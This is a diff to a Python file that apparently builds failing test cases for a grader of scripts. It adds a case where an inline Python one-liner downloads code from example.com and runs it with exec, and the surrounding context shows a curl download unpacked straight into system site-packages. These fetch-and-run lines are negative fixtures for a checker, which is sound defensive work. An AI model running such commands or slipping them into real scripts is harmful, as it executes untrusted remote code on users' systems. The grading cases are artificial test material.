@@ -171,6 +171,16 @@ def fail_fetched_renamed(data: dict[str, Any]) -> str:
     return _script_adds(data, fetched)
 
 
+def fail_fetched_python(data: dict[str, Any]) -> str:
+    """8-10 (E8): an inline Python program downloads code and executes it: what runs is
+    whatever the URL serves when the sweep runs."""
+    program = (
+        'python3 -c "import urllib.request as u; '
+        "exec(u.urlopen('https://example.com/tune_engine.py').read())\"\n"
+    )
+    return _script_adds(data, program)
+
+
 def fail_engine_unpacked(data: dict[str, Any]) -> str:
     """10 (E8): an archive unpacked into the installed engine's site-packages (`tar -C`)."""
     unpacked = "curl -fsSL https://example.com/v.tgz | tar -xz -C /usr/local/lib/python3.12/dist-packages\n"
